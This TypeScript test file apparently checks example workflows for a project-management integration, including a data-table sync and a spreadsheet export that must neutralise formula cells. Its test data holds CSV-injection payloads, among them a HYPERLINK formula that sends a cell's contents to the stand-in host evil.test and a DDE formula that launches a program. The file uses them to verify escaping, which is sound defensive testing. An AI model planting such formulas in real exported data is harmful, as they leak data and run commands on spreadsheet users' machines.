/** Every workflow of examples/ as a person has it after choosing the Collab credential, with what it would send out caught. */
import { setTimeout as sleep } from 'node:timers/promises';
import { makeSpreadsheet } from '../../../dev/demo/demo';
import { SPREADSHEET } from '../../../dev/demo/examples';
import { example, standIn, syncedRows } from '../examples';
import { by, type Row, rowsOf } from '../stage';
import { stage, store } from './stage';
import { hold, STORIES } from './stories';

/** Rows are sorted by name, texts as they are. */
const keyOf = (found: unknown) => String((found as Row)['name'] ?? found);
const sorted = (all: unknown[]) => [...all].sort((a, b) => (keyOf(a) < keyOf(b) ? -1 : 1));

it.each(STORIES)('$file', async (story) => {
	const { file, node: last, other, trigger, projects, read, steps } = story;
	hold(projects);
	const draft = await example(file, { [last]: standIn, ...(other && { [other]: standIn }) });
	const workflow = trigger ? undefined : await stage.publish(draft);
	for (const [act, ...expected] of steps) {
		// What is created in the second in which the trigger began counts as existing.
		await sleep(1_000);
		act();
		const found: unknown[] = [];
		// What happens at once may be found by two polls.
		while (found.length < expected.length) {
			const execution = await (workflow ? stage.next(workflow) : stage.run(draft, trigger));
			found.push(...read(rowsOf(execution, last)));
			if (other) expect(rowsOf(execution, other)).toHaveLength(1);
		}
		expect(sorted(found)).toMatchObject(expected);
	}
	if (workflow) await stage.unpublish(workflow);
});

it('sync-projects-to-data-table.json makes and fills the table, then keeps it', async () => {
	hold([{ name: 'A' }, { name: 'B', updated_at: '2026-01-01T00:00:00Z' }, { name: 'C' }]);
	const table = async () => by('name', await syncedRows(stage));
	const workflow = await stage.publish(await example('sync-projects-to-data-table.json'));
	await stage.next(workflow);
	expect(await table()).toMatchObject([{ name: 'A' }, { name: 'B' }, { name: 'C' }]);
	const [a, b] = by('name', store().all());
	for (const act of [
		() => store().archive(a?.id ?? ''),
		() => store().create({ name: 'D' }),
		() => store().remove(b?.id ?? ''),
	]) {
		act();
		await stage.next(workflow);
	}
	await stage.unpublish(workflow);
	const [first, ...others] = await table();
	const { id, status, last_event } = { id: a?.id, status: 'archived', last_event: 'archived' };
	expect(first).toMatchObject({ project_id: id, name: 'A', status, last_event });
	const stamp = store().get(id ?? '')?.updated_at ?? '';
	expect(Date.parse(String(first?.['project_updated_at']))).toBe(Date.parse(stamp));
	expect(others).toMatchObject([{ name: 'C' }, { name: 'D' }]);
});

/** What a spreadsheet program takes for a formula (OWASP, "CSV Injection"), and what becomes of it. */
const FORMULAS = [
	...['=HYPERLINK("https://evil.test/?"&A1,"Open")', '+1+1', '-1+1', '@SUM(1,1)'],
	"=cmd|' /C calc'!A0",
].map((formula) => [formula, `'${formula}`]);
const IN_CELLS = [
	...['\t', '\r', '\n'].map((start) => [`${start}=1+1`, `${start}'=1+1`]),
	['Roadmap;=1+1', "Roadmap;'=1+1"],
	['Roadmap; "@SUM(1)', 'Roadmap; "\'@SUM(1)'],
	['Roadmap\n+1+1', "Roadmap\n'+1+1"],
];
const HARMLESS = ['Website', 'a=b', '3-2; 1', "It's fine", ' =1+1', ''].map((text) => [text, text]);
const NESTED = { meta: { note: '=1+1', more: ';=1+1' }, tags: ['=1+1'] };

it(`${SPREADSHEET} puts an apostrophe before what would be a formula, in whichever way cells are separated`, async () => {
	const texts = [...FORMULAS, ...IN_CELLS, ...HARMLESS];
	hold(texts.map(([name]) => ({ name, description: name, task_count: 3, ...NESTED })));
	const { rows } = await makeSpreadsheet(stage, await stage.create(await example(SPREADSHEET)));
	const expected = texts.map(([, text]) => text).sort();
	expect(rows.map(({ name }) => name).sort()).toEqual(expected);
	expect(rows.map(({ description }) => description).sort()).toEqual(expected);
	const { meta, tags } = NESTED;
	const rest = [
		{
			task_count: '3',
			meta: JSON.stringify(meta).replace(';=', ";'="),
			tags: JSON.stringify(tags),
		},
	];
	expect(rows).toMatchObject(rows.flatMap(() => rest));
});
